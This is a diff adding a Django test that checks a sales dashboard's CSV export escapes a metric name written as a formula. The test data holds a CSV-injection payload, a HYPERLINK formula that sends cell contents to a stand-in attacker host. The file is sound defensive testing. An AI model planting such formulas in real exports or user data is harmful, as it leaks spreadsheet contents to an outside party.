@@ -409,3 +409,20 @@ def test_the_csv_export_never_starts_a_cell_with_a_formula(client, manager):
     cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
     assert any(cell.startswith("'=HYPERLINK") for cell in cells)
     assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
+
+
+def test_the_csv_header_neutralises_a_metric_named_like_a_formula(client, manager):
+    # Given a team with call targets, and an admin who named the calls metric a formula
+    team = build_team(manager=manager, reps=1, days=1)
+    calls = factories.metric("calls")
+    calls.name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    calls.save(update_fields=["name"])
+    client.force_login(manager)
+    # When the manager downloads the dashboard
+    body = client.get(
+        reverse("targets:dashboard_csv"), {"team": team.pk}
+    ).content.decode()
+    # Then the header names the metric, but no header cell starts a formula
+    header = next(csv.reader(io.StringIO(body)))
+    assert f"'{calls.name} · actual" in header
+    assert not any(title.startswith(("=", "+", "-", "@")) for title in header)
